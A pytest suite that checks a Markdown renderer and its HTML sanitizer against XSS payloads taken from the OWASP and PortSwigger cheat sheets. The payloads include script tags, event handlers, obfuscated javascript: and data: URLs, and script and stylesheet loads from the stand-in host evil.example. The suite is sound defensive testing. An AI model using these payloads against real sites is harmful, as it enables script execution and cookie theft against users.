"""domain/markdown.py with real XSS payloads: nothing executable survives, in Markdown
or in raw HTML handed to the sanitizer alone; ordinary Markdown renders."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from weft_resources.domain.markdown import render, sanitize

# From the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<body onload=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]

MARKDOWN_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>` and\n\n```html\n<script>alert(1)</script>\n```",
    *PAYLOADS,
]

SAFE_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "background", "poster"}


class Executable(HTMLParser):
    """Parses rendered HTML as a browser would and lists whatever could run: a tag outside
    the allowlist, an event handler or style attribute, a URL whose scheme is not
    http/https/mailto (as the browser reads it: entities decoded, tabs and newlines
    dropped), a comment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and value is not None:
                url = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
                if scheme and scheme.group(1) not in ("http", "https", "mailto"):
                    self.found.append(f"{tag}[{name}={value}]")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")


def executable(html: str) -> list[str]:
    parser = Executable()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_nothing_executable_survives_rendering(payload: str) -> None:
    html = render(payload)
    assert executable(html) == [], html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitizer_alone_disarms_raw_html(payload: str) -> None:
    """The second layer, in case the first ever let raw HTML through."""
    html = sanitize(payload)
    assert executable(html) == [], html


def test_links_get_rel_and_only_allowed_schemes() -> None:
    html = render("[a](https://example.org/x) [b](mailto:ana@example.org) [c](/v1/resources/r1)")
    assert html.count('rel="nofollow noopener noreferrer"') == 3, html
    assert 'href="https://example.org/x"' in html and 'href="mailto:ana@example.org"' in html
    assert sanitize('<a href="ftp://example.org/x">x</a>') == '<a rel="nofollow noopener noreferrer">x</a>'


def test_ordinary_markdown_renders() -> None:
    text = (
        "# Title\n\n## Section\n\nSome *emphasis*, **strong**, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n```\nblock\n```\n\n---\n\n"
        '| a | b |\n|:--|--:|\n| 1 | 2 |\n\n![chart](https://example.org/c.png "Chart")\n'
    )
    html = render(text)
    for fragment in (
        "<h1>Title</h1>",
        "<h2>Section</h2>",
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        "<del>gone</del>",
        "<code>code</code>",
        "<ul>\n<li>one</li>",
        '<ol start="3">',
        "<blockquote>",
        "<pre><code>block\n</code></pre>",
        "<hr>",
        "<table>",
        "<th>a</th>",  # alignment comes as a style attribute, which is dropped
        "<td>2</td>",
        '<img src="https://example.org/c.png" alt="chart" title="Chart">',
    ):
        assert fragment in html, (fragment, html)


def test_raw_html_in_markdown_is_left_out() -> None:
    assert render("<b>bold</b>") == "<p>bold</p>\n"
    assert render("Give <5 mg, not >10") == "<p>Give &lt;5 mg, not &gt;10</p>\n"


def test_relative_links_are_dropped_and_look_alike_schemes_with_them() -> None:
    html = render("[a](/v1/resources/r1) [b](java&#x09;script:alert(1)) [c](#top)")
    assert "href" not in html, html


def test_input_that_made_the_old_parser_quadratic_renders() -> None:
    """cmark-gfm is linear in its input (bench/ has no figure for it: it is instant);
    a Python parser took seconds on these, holding the service's event loop."""
    for text in ("[" * 200_000, "*a " * 66_000, "![a](" * 40_000):
        html = render(text)
        assert html.startswith("<p>") and "<a" not in html
